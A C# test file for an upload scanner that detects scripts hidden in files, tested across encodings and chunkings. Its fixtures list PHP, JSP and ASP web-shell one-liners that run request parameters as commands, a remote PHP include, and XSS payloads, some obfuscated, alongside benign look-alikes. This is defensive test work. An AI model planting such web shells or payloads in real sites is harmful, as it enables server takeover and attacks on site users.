using System.Text;
using CsCheck;
using Uploader.Inspection.Polyglots;

namespace Inspection.Tests.Polyglots;

public sealed class ScriptScanTests
{
    public static TheoryData<string> Scripts =>
    [
        "<?php system($_GET['c']); ?>",
        "<?PhP\nsystem($_GET['c']);",
        "<?php\t/*\u00ff\u00ff*/eval($_POST[0]);",
        "<?=`$_GET[0]`?>",
        "<?=$_GET[0]($_POST[1]);?>",
        "<?= include 'http://x.example/a';",
        "<?=/*\u0001*/`$_GET[0]`;?>",
        "<?= /*\u0001*/ /**/ //\u0001\n#\u0001\r`$_GET[0]`;?>",
        "<?=system('/*'.$_GET[0]);?>",
        "<?=system/*\u0001\u0002*/($_GET[0])?>",
        "<?=/*" + new string('\u00ff', 200) + "*/`$_GET[0]`;?>",
        "<?=`id`?>",
        "<?=\"\u0080\",`id`?>",
        "<?='\\'\u0001'.`id`?>",
        "<?=\"\0\".system($_GET[0]);",
        "<script>alert(1)</script>",
        "<SCRIPT src=//x.example/a>",
        "<script\nsrc=//x.example/a>",
        "<script/src=//x.example/a>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "<svg:script>alert(1)</svg:script>",
        "<svg onload=alert(document.domain)>",
        "<svg/onload=alert(1)>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC='x'ONERROR = 'alert(1)'>",
        "<img alt='\u00e9\u00e8' onerror=\"alert(1)\">",
        "<body onpageshow=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<a href=javascript:alert(1)>",
        "<a href=\"JavaScript:alert(1)\">",
        "<a xlink:href=' javascript:alert(1)'>",
        "<iframe src=//x.example>",
        "<iframe>",
        "<html><body>hello</body></html>",
        "<HTML lang=en><p>hello",
        "<!DOCTYPE html>",
        "<!doctype HTML PUBLIC>",
        "<%eval request(\"cmd\")%>",
        "<%@ page import=\"java.io.*\" %>",
        "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
        "<% <?php system($_GET['c']);",
        "<a <!doctype html >",
        "#!/bin/sh\nid",
        "_____HALT_COMPILER();",
        "__halt_compiler \r\n (\t) ; ?>\r\n",
        "#!/usr/bin/env python3\n",
    ];

    public static TheoryData<string> Honest =>
    [
        "<?xpacket begin='\u00ef\u00bb\u00bf' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/' x:xmptk='Adobe XMP Core 5.6'>"
            + "<rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description rdf:about='' xmlns:dc='http://purl.org/dc/elements/1.1/' "
            + "dc:format='image/jpeg'><dc:title><rdf:Alt><rdf:li xml:lang='x-default'>a</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end='w'?>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><plist version=\"1.0\"><dict><key>cast</key><array/></dict></plist>",
        "<?adobe-xap-filters esc=\"CRLF\"?>",
        "JavaScript: The Good Parts",
        "How <scripts> differ from <scripting>",
        "<3 this film; 100 <% 200 %> 50",
        "if a <b once = 1",
        "A lesson on = and <html",
        "<?phpinfo is one word",
        "a <?= b",
        "8-(,;89988:::989:;><;:;<<<?=<;=>>==>>>>>=>>>>>?>>>?>>",
        "<?=/*\u0001*/ a",
        "<?=/*\u0001*/ a\u0001 system($_GET[0])",
        "<?=# a comment\u0001",
        "<?=\"a\u0001\"b\u0001",
        "<?='a\u0001 system($_GET[0]); ?>",
        "<?= a ?> 'a\u0001'",
        "<?=8-,;8/9988:9#89:::989:;><;:;<<<?=<;=>>==>>>>>=>>>>>?>>>?>>",
        "#!/b",
        "__HALT_COMPILER",
        "__halt_compiler(1)",
        "__HALT_COMPILER: ();",
        "__________________",
        "CREATOR: gd-jpeg v1.0 (using IJG JPEG v80), quality = 90\n",
        "medieval(1300)",
        "<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>",
        "<a href='https://x.example/?option=1&online=true'>the song</a>",
    ];

    [Theory]
    [MemberData(nameof(Scripts))]
    public void Script_is_found_in_whatever_pieces_and_encoding_it_comes(string text)
    {
        foreach (var encoding in new[] { Encoding.Latin1, Encoding.Unicode, Encoding.BigEndianUnicode })
        {
            // UTF-16 is a browser's; a shell's first line and a phar's stub are bytes.
            if (text[0] is '#' or '_' && !encoding.IsSingleByte)
                continue;
            byte[] bytes = [1, 0x3C, 0xFF, .. encoding.GetBytes("before " + text + " and after")];
            foreach (var piece in new[] { 1, 2, 3, 7, 64, 511, 512, 4096 })
                Assert.True(Find(bytes, piece) is not null, $"{encoding.WebName} in pieces of {piece}");
        }
    }

    [Theory]
    [MemberData(nameof(Honest))]
    public void Honest_text_is_not_script(string text)
    {
        foreach (var encoding in new[] { Encoding.Latin1, Encoding.Unicode, Encoding.BigEndianUnicode })
        {
            foreach (var piece in new[] { 1, 3, 4096 })
                Assert.Null(Find([.. encoding.GetBytes(text), 0, 1, 2, 0xFF], piece));
        }
    }

    [Fact]
    public void What_was_begun_in_another_text_is_no_script()
    {
        var scan = new ScriptScan();
        Assert.Null(scan.Feed("<scr"u8));
        scan.Reset();
        Assert.Null(scan.Feed("ipt>"u8));
        Assert.Null(scan.Feed("<scr"u8));
        Assert.NotNull(scan.Feed("ipt>"u8));
    }

    [Fact]
    public void How_a_text_is_cut_into_pieces_does_not_matter()
    {
        // Of what tells are made of, so that many begin and few end.
        var part = Gen.OneOf(["<", "<?php", "<?=", "<%", "%>", "?>", "script", " ", ">", "<a ", "on", "load", "=", "javascript:", "\0", "<html", "#!/bin/", "/*", "*/", "//", "#", "\"", "`", "\\", "\n", "$", "__", "halt_compiler", "();", "text text text", "\u00ff"]);
        Gen.Select(part.Array[1, 40], Gen.Int[1, 40].Array[1, 20]).Sample((parts, cuts) =>
        {
            var bytes = Encoding.Latin1.GetBytes(string.Concat(parts));
            var scan = new ScriptScan();
            string? found = null;
            var rest = bytes.AsSpan();
            for (var i = 0; !rest.IsEmpty && found is null; i++)
            {
                var cut = Math.Min(cuts[i % cuts.Length], rest.Length);
                found = scan.Feed(rest[..cut]);
                rest = rest[cut..];
            }

            Assert.Equal(new ScriptScan().Feed(bytes) is null, found is null);
        }, iter: 20_000);
    }

    [Fact]
    public void Random_bytes_are_no_script_and_cost_no_memory()
    {
        var bytes = Support.Bytes.Mp4(50 * Support.Bytes.MiB, 7);
        // The scan allocates alike each time; the runtime what it needs for types that are used for the first time, once.
        Assert.InRange(Enumerable.Range(0, 3).Min(_ => AllocatedBy(new ScriptScan())), 0, 1024);

        long AllocatedBy(ScriptScan scan)
        {
            var before = GC.GetAllocatedBytesForCurrentThread();
            for (var at = 0; at < bytes.Length; at += 65_521)
                Assert.Null(scan.Feed(bytes.AsSpan(at, Math.Min(65_521, bytes.Length - at))));
            return GC.GetAllocatedBytesForCurrentThread() - before;
        }
    }

    private static string? Find(byte[] bytes, int piece)
    {
        var scan = new ScriptScan();
        return bytes.Chunk(piece).Select(chunk => scan.Feed(chunk)).FirstOrDefault(tell => tell is not null);
    }
}
